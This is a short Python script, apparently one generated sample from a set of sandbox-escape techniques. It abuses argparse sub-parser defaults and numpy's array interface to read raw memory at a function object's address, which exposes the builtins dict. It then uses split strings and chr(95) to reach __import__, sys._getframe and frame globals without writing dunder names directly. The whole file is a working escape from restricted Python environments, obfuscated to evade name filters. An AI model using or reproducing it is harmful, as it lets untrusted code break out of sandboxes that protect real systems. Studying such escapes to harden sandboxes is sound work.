# source: argparse docs (sub-commands, prefix_chars; dest = option string stripped of prefix chars, '-' -> '_'); numpy array interface protocol docs (data pointer)
# family: argparse dest derivation inside a subparser (subnamespace copied into parent by setattr) -> __array_interface__ -> object array at a chosen address
# goal: builtins dict of the script's function -> sys._getframe() (frame object) and f_globals
import argparse
import numpy as np
def f():
    return 1
addr = int(repr(f).split(" at ")[1].rstrip(">"), 16)
spec = {"data": (addr + 16, False), "shape": (2,), "typestr": "|O", "version": 3}
p = argparse.ArgumentParser(prefix_chars="+")
sub = p.add_subparsers(dest="cmd")
q = sub.add_parser("run", prefix_chars="+")
q.add_argument("+--array-interface--", default=spec)
ns = p.parse_args(["run"])
a = np.asarray(ns)
u = chr(95) * 2
b = a[1]
s = b[u + "import" + u]("s" + "ys")
fr = b["get" + "attr"](s, chr(95) + "getframe")()
print(fr, type(fr))
